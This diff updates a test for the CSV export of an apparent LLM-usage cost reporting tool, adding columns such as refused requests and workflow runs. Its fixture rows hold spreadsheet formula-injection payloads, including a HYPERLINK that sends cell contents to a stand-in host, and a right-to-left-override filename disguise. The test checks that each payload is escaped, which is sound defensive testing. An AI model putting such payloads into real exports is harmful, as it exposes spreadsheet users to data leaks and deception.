@@ -78,15 +78,15 @@ describe('report output from hostile span data', () => {
     const report = await buildReport({ store, from, to, by: ['step', 'tag:tenant'] })
     const csv = formatReport(report, 'csv')
     const records = csv.trimEnd().split('\n')
-    expect(records[0]).toBe('step,tag_tenant,calls,runs,input_tokens,output_tokens,cost_usd,cost_per_run_usd,p50_ms,p95_ms,p99_ms,ttft_p50_ms,error_rate,retry_rate,fallback_rate')
+    expect(records[0]).toBe('step,tag_tenant,calls,runs,input_tokens,output_tokens,cost_usd,cost_per_run_usd,p50_ms,p95_ms,p99_ms,ttft_p50_ms,error_rate,retry_rate,fallback_rate,refused_requests,downgraded_requests,workflow_runs,cost_per_workflow_run_usd')
     // Most expensive first: the steps in reverse order of the fixture.
     expect(records.slice(1)).toEqual([
-      `"'\r=1",\u202egnp.exe,1,1,100,10,0.006,0.006,80,80,80,,0,0,0`,
-      `'\tcmd,\u202egnp.exe,1,1,100,10,0.005,0.005,80,80,80,,0,0,0`,
-      `'@SUM(A1),\u202egnp.exe,1,1,100,10,0.004,0.004,80,80,80,,0,0,0`,
-      `'-1+2,\u202egnp.exe,1,1,100,10,0.003,0.003,80,80,80,,0,0,0`,
-      `'+1,\u202egnp.exe,1,1,100,10,0.002,0.002,80,80,80,,0,0,0`,
-      `"'=HYPERLINK(""http://x.test/?q=""&A1,""click"")",\u202egnp.exe,1,1,100,10,0.001,0.001,80,80,80,,0,0,0`,
+      `"'\r=1",\u202egnp.exe,1,1,100,10,0.006,0.006,80,80,80,,0,0,0,0,0,1,0.006`,
+      `'\tcmd,\u202egnp.exe,1,1,100,10,0.005,0.005,80,80,80,,0,0,0,0,0,1,0.005`,
+      `'@SUM(A1),\u202egnp.exe,1,1,100,10,0.004,0.004,80,80,80,,0,0,0,0,0,1,0.004`,
+      `'-1+2,\u202egnp.exe,1,1,100,10,0.003,0.003,80,80,80,,0,0,0,0,0,1,0.003`,
+      `'+1,\u202egnp.exe,1,1,100,10,0.002,0.002,80,80,80,,0,0,0,0,0,1,0.002`,
+      `"'=HYPERLINK(""http://x.test/?q=""&A1,""click"")",\u202egnp.exe,1,1,100,10,0.001,0.001,80,80,80,,0,0,0,0,0,1,0.001`,
     ])
     const path = formatReport(await criticalPath({ store, workflow, from, to }), 'csv')
     expect(path.split('\n').filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([])
